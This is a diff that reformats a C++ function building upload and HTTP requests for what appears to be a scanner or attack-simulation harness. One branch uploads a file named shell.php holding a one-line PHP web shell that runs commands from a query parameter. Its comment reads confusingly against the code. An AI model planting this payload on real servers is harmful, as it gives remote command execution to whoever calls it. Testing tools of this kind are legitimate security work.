@@ -47,9 +47,15 @@ Ask Attempts::attempt(const PlannedService& service, std::size_t n) {
   if (kind.body == script) {
     // The weak form would take a script: there the attempt stays what it is for all others, a harmless file.
     const bool weak = service.weak;
-    return upload_of(service.host, below(service, "upload"), weak ? "holiday.png" : "shell.php", weak ? "not a picture" : "<?php system($_GET['c']); ?>");
+    return upload_of(service.host, below(service, "upload"), weak ? "holiday.png" : "shell.php",
+                     weak ? "not a picture" : "<?php system($_GET['c']); ?>");
   }
-  Ask ask{.verb = kind.verb, .host = service.host, .target = below(service, kind.target), .body = std::string(kind.body), .agent = std::string(kind.agent), .headers = {}};
+  Ask ask{.verb = kind.verb,
+          .host = service.host,
+          .target = below(service, kind.target),
+          .body = std::string(kind.body),
+          .agent = std::string(kind.agent),
+          .headers = {}};
   if (!kind.header.empty()) ask.headers.emplace_back(kind.header, kind.value);
   return ask;
 }
